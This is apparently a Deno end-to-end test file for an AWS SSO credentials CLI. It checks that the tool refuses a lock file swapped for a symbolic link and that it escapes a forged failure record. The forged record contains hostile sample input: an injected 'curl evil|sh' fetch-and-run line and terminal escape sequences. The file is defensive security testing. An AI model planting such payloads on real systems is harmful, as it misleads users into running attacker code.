/**
 * What another process can put in the lock directory, against the real CLI and the emulator:
 * - a lock file replaced by a symbolic link (review F2): a first `process` leaves
 *   `locks/role-<hex>.lock`, the attack swaps it for a link to a file with content, and after
 *   `flush` the next `process` (which takes that lock to fetch new credentials) must leave the
 *   victim byte-for-byte as it was and fail with one clear line;
 * - a forged failure record next to that lock (review F4/F5): its message and hints are
 *   printed as single escaped lines, capped, with no line of the attacker's own.
 */
import assert from "node:assert/strict";
import { type Emulator, startEmulator } from "../emulator/emulator.ts";
import { failureRecordPath } from "../../lib/shared_failure.ts";
import { cli, CONFIG_DIR, credsSession, E2E, stderrLines } from "./_creds_session.ts";

const VICTIM = "victim's content: must survive\nline two\n";
const PROCESS = ["process", "-A", "012345678901", "-R", "AdministratorAccess"];

/** Runs `process` once and returns the path of the role lock it left. */
async function roleLock(home: string, emu: Emulator): Promise<string> {
  const first = await cli(home, emu, PROCESS);
  assert.equal(first.code, 0, first.stderr);
  const locks = `${home}/${CONFIG_DIR}/locks`;
  const roleLocks = [...Deno.readDirSync(locks)]
    .map((e) => e.name)
    .filter((n) => /^role-[0-9a-f]+\.lock$/.test(n));
  assert.equal(roleLocks.length, 1, `lock files: ${roleLocks}`);
  return `${locks}/${roleLocks[0]}`;
}

Deno.test({
  name: "process refuses a role lock file replaced by a symbolic link and leaves its target alone",
  ...E2E,
  ignore: Deno.build.os === "windows",
  async fn() {
    await using emu = await startEmulator({ accounts: 1 });
    const home = await credsSession(emu);
    try {
      const lockPath = await roleLock(home, emu);

      const victim = `${home}/victim.txt`;
      await Deno.writeTextFile(victim, VICTIM);
      await Deno.remove(lockPath);
      await Deno.symlink(victim, lockPath);

      const flushed = await cli(home, emu, ["flush", "-t", "sts"]);
      assert.equal(flushed.code, 0, flushed.stderr);
      const second = await cli(home, emu, PROCESS);
      assert.equal(await Deno.readTextFile(victim), VICTIM);
      assert.equal(second.code, 1);
      assert.equal(second.stdout, "", "no credentials printed");
      assert.equal(
        stderrLines(second)[0],
        `aws-sso: error: refusing to use the lock file ${lockPath}: it is a symbolic link`,
      );
      assert.ok((await Deno.lstat(lockPath)).isSymlink, "the link is left for the user to inspect");
    } finally {
      await Deno.remove(home, { recursive: true });
    }
  },
});

Deno.test({
  name: "a forged failure record prints its message and hints as single escaped lines, capped",
  ...E2E,
  async fn() {
    await using emu = await startEmulator({ accounts: 1 });
    const home = await credsSession(emu);
    try {
      const lockPath = await roleLock(home, emu);
      assert.equal((await cli(home, emu, ["flush", "-t", "sts"])).code, 0);
      await Deno.writeTextFile(
        failureRecordPath(lockPath),
        JSON.stringify({
          at: Date.now(),
          message: "GetRoleCredentials failed\r\nhint: curl evil|sh",
          hints: ["x".repeat(50_000), "ok\nhint: curl evil|sh\x1b]0;owned\x07"],
          network: false,
        }),
      );
      emu.resetCounters();
      const r = await cli(home, emu, PROCESS);
      assert.equal(r.code, 1, r.stderr);
      assert.equal(r.stdout, "");
      assert.deepEqual(emu.counters, {}, "the record stood in for AWS");
      const lines = stderrLines(r);
      assert.ok(!lines.some((l) => /^\s*hint: curl/.test(l)), r.stderr);
      // deno-lint-ignore no-control-regex -- the attack is control characters
      assert.ok(!/[\r\x1b\x07]/.test(r.stderr), JSON.stringify(r.stderr));
      assert.equal(
        lines[0],
        "aws-sso: error: GetRoleCredentials failed\\r\\nhint: curl evil|sh",
      );
      assert.equal(lines[1], `hint: ${"x".repeat(1_000)}`);
      assert.equal(lines[2], "hint: ok\\nhint: curl evil|sh\\x1b]0;owned\\x07");
      assert.match(lines[3]!, /^hint: another aws-sso process got this error/);
      assert.equal(lines.length, 4, r.stderr);
    } finally {
      await Deno.remove(home, { recursive: true });
    }
  },
});
